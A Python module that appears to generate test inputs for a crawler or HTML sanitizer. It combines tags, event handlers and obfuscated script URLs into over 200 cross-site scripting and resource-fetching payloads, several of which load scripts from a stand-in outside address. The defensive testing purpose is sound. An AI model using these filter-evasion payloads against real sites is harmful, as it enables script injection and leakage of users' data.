"""Attempts to run script or to reach out from a crawled page: generated from tricks x wrappers, so that the list says what it covers."""

from __future__ import annotations

OUT = "http://203.0.113.9/out"  # documentation address: nothing may ask for it
JS = "console.log('weft-ran')"

TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "iframe src=x",
    "object data=x",
    "details open",
    "marquee",
    "select autofocus",
    "textarea autofocus",
    "math",
    "button autofocus",
    "style",
    "link rel=stylesheet href=x",
    "form",
    "a href=x",
    "div",
    "table background=x",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onpointerenter")
URLS = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "&#106;avascript:",
    "\x01javascript:",
    "vbscript:",
    "data:text/html,<script>",
    "javascript&colon;",
    "  javascript:",
)
HOLDERS = ('<a href="{u}{js}">x</a>', '<iframe src="{u}{js}"></iframe>', '<form action="{u}{js}"><button autofocus>x</button></form>', '<object data="{u}{js}"></object>',
           '<embed src="{u}{js}">', '<meta http-equiv=refresh content="0;url={u}{js}">', '<base href="{u}{js}">')  # fmt: skip
PLAIN = (
    "<script>{js}</script>", "<ScRiPt>{js}</sCrIpT>", "<script src={out}></script>", "<svg><script>{js}</script></svg>", "<svg><script href={out} /></svg>",
    "<iframe srcdoc=\"<script>{js}</script>\"></iframe>", "<noscript><p title=\"</noscript><script>{js}</script>\">", "<template><script>{js}</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>", "<title><img src=x onerror={js}></title>", "</title><script>{js}</script>",
    "<!--><img src=x onerror={js}>-->", "<![CDATA[<script>{js}</script>]]>", "<style>@import '{out}';</style>", "<style>body{{background:url({out})}}</style>",
    "<div style=\"background-image:url({out})\">x</div>", "<link rel=stylesheet href={out}>", "<link rel=prefetch href={out}>", "<link rel=preconnect href={out}>", "<link rel=dns-prefetch href={out}>",
    "<link rel=modulepreload href={out}>", "<img src={out}>", "<img srcset='{out} 1x, {out} 2x'>", "<picture><source srcset={out}><img></picture>", "<video poster={out} src={out}></video>",
    "<audio src={out} autoplay></audio>", "<track src={out}>", "<embed src={out}>", "<object data={out}></object>", "<iframe src={out}></iframe>", "<meta http-equiv=refresh content='0;url={out}'>",
    "<a ping={out} href={out}>x</a>", "<body background={out}>", "<table background={out}><td background={out}>", "<svg><image href={out} /></svg>", "<svg><use href='{out}#x'/></svg>",
    "<svg><animate attributeName=href values='javascript:{js}'/><a><text>x</text></a></svg>", "<svg><foreignObject><iframe src=javascript:{js}></iframe></foreignObject></svg>",
    "<input type=image src={out}>", "<form action={out}><input autofocus onfocus=this.form.submit()></form>", "<button formaction={out} autofocus>x</button>", "<script type=module>import '{out}'</script>",
    "<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{out}\"]}}]}}</script>", "<frameset onload={js}><frame src={out}></frameset>", "<applet code={out}></applet>",
    "<xml id=x><a><b>&lt;img src=x onerror={js}&gt;</b></a></xml>", "<img src=x:x onerror={js} alt='`'>", "<plaintext><script>{js}</script>", "\ufeff<script>{js}</script>", "+ADw-script+AD4-{js}+ADw-/script+AD4-",
)  # fmt: skip


def payloads() -> list[str]:
    """Over 200 pieces of HTML, each trying to run JS or to ask for OUT."""
    out = [f'<{tag} {event}="{JS}">x' for tag in TAGS for event in EVENTS]
    out += [h.format(u=u, js=JS) for h in HOLDERS for u in URLS]
    return out + [p.format(js=JS, out=OUT) for p in PLAIN]
